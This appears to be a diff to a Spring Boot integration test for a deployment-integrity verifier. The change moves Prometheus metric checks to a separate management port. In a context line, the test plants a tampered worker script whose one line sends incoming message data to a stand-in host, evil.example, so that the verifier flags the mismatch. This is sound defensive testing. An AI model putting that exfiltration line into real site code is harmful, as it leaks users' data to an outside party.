@@ -8,6 +8,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestMethodOrder;
 import org.junit.jupiter.api.io.TempDir;
 import org.springframework.boot.test.context.SpringBootTest;
+import org.springframework.boot.test.web.server.LocalManagementPort;
 import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.test.context.DynamicPropertyRegistry;
 import org.springframework.test.context.DynamicPropertySource;
@@ -64,6 +65,8 @@ class DeploymentVerificationTest {
 
     @LocalServerPort
     int port;
+    @LocalManagementPort
+    int managementPort;
 
     @BeforeEach
     void releasedDeploymentIsServed() throws Exception {
@@ -184,12 +187,12 @@ class DeploymentVerificationTest {
         awaitStatus(http, "match");
         assertThat(JSON.readTree(http.get("/v1/status/badge?origin=" + origin).body()).get("message").asString())
                 .isEqualTo("verified 1.0.0");
-        assertThat(http.get("/actuator/prometheus").body()).containsPattern(matchGauge(1));
+        assertThat(new Http(managementPort).get("/actuator/prometheus").body()).containsPattern(matchGauge(1));
 
         SITE.put("assets/worker-1.js", "self.onmessage = (event) => fetch('https://evil.example/?k=' + event.data);\n");
         awaitStatus(http, "mismatch");
         assertThat(JSON.readTree(http.get("/v1/status/badge?origin=" + origin).body()).get("color").asString()).isEqualTo("red");
-        assertThat(http.get("/actuator/prometheus").body()).containsPattern(matchGauge(0));
+        assertThat(new Http(managementPort).get("/actuator/prometheus").body()).containsPattern(matchGauge(0));
         JsonNode history = JSON.readTree(http.get("/v1/status/history?origin=" + origin + "&limit=50").body());
         assertThat(history.findValuesAsString("verdict")).contains("match", "mismatch");
         assertThat(http.get("/v1/status/badge?origin=" + URLEncoder.encode("https://elsewhere.example", StandardCharsets.UTF_8))
